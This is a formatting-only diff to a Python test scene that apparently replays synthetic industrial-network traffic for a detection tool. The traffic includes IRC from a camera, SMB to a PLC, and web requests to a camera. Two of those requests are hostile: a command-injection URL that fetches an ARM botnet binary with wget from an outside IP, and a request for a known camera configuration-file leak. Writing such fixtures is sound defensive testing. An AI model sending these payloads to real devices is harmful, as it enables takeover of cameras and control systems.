@@ -1,11 +1,26 @@
-"""Who talks to whom though it should not: controllers on the Internet, office machines at controllers, tunnels."""
+"""Who talks to whom though it should not: controllers on the Internet, offices at controllers, tunnels."""
 
 from __future__ import annotations
 
 from sentinel.demo.cast import CAMERA
 from sentinel.demo.scenes.s7 import OB1, Session
 from tests.craft.plant import (
-    CONTROL, HMI, JUMP, MINUTE, MODICON, OFFICE, OUTSIDE, S7, SCADA, SECOND, Modbus, Plant, Scene, polling, sweep, web,
+    CONTROL,
+    HMI,
+    JUMP,
+    MINUTE,
+    MODICON,
+    OFFICE,
+    OUTSIDE,
+    S7,
+    SCADA,
+    SECOND,
+    Modbus,
+    Plant,
+    Scene,
+    polling,
+    sweep,
+    web,
 )  # fmt: skip
 
 
@@ -39,14 +54,22 @@ def play(wire: Plant) -> None:
     proxy.client(b"CONNECT files.example.net:443 HTTP/1.1\r\nHost: files.example.net:443\r\n\r\n")
     proxy.server(b"HTTP/1.1 200 Connection established\r\n\r\n").close()
     mail = wire.tcp(60 * MINUTE, HMI, OUTSIDE, 25)
-    mail.server(b"220 mx.example.net ESMTP Postfix\r\n").client(b"EHLO hmi\r\n").server(b"250 mx.example.net\r\n")
+    mail.server(b"220 mx.example.net ESMTP Postfix\r\n").client(b"EHLO hmi\r\n").server(
+        b"250 mx.example.net\r\n"
+    )
     mail.client(b"QUIT\r\n").server(b"221 2.0.0 Bye\r\n").close()
     chat = wire.tcp(62 * MINUTE, CAMERA, CONTROL, 6667)
     chat.client(b"NICK cam17\r\nUSER cam17 0 * :cam17\r\n").server(b":irc.example.net 001 cam17 :Welcome\r\n")
     chat.client(b"JOIN #cams\r\n").server(b":cam17!c@x JOIN #cams\r\n").close()
     share = wire.tcp(64 * MINUTE, SCADA, MODICON, 445)
     dialects = b"\x02NT LM 0.12\0\x02SMB 2.002\0"
-    message = b"\xffSMB\x72\0\0\0\0\x18\x53\xc8" + bytes(20) + b"\0" + len(dialects).to_bytes(2, "little") + dialects
+    message = (
+        b"\xffSMB\x72\0\0\0\0\x18\x53\xc8"
+        + bytes(20)
+        + b"\0"
+        + len(dialects).to_bytes(2, "little")
+        + dialects
+    )
     share.client(len(message).to_bytes(4) + message).close()
     web(wire, 66 * MINUTE, OUTSIDE, CAMERA, "/shell?cd%20/tmp;wget%20http://185.220.101.47/bins/arm7")
     web(wire, 67 * MINUTE, OUTSIDE, CAMERA, "/System/configurationFile?auth=YWRtaW46MTEK")
@@ -57,7 +80,9 @@ def play(wire: Plant) -> None:
         upload.client(bytes(60_000), 40)
     upload.close()
     acs = wire.tcp(80 * MINUTE, OUTSIDE, CAMERA, 7_547)
-    acs.client(b"GET / HTTP/1.1\r\nHost: camera\r\n\r\n").server(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").close()
+    acs.client(b"GET / HTTP/1.1\r\nHost: camera\r\n\r\n").server(
+        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
+    ).close()
     assert acs.now + SECOND < 95 * MINUTE
 
 
